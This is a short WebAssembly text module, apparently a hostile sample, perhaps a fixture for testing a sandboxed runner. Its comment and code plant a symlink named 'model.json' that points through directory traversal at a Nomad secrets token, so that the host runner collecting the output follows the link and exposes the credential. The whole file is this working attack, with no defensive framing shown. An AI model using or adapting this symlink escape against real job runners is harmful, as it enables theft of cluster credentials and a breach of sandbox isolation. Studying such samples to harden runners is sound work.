;; Leaves a symbolic link to a token of Nomad's, for the runner to follow.
(module
  (import "wasi_snapshot_preview1" "path_symlink" (func $symlink (param i32 i32 i32 i32 i32) (result i32)))
  (memory (export "memory") 1)
  (data (i32.const 0) "../../../../../../secrets/nomad_token")
  (data (i32.const 64) "model.json")
  (func (export "_start")
    (if (call $symlink (i32.const 0) (i32.const 37) (i32.const 4) (i32.const 64) (i32.const 10))
      (then unreachable))))
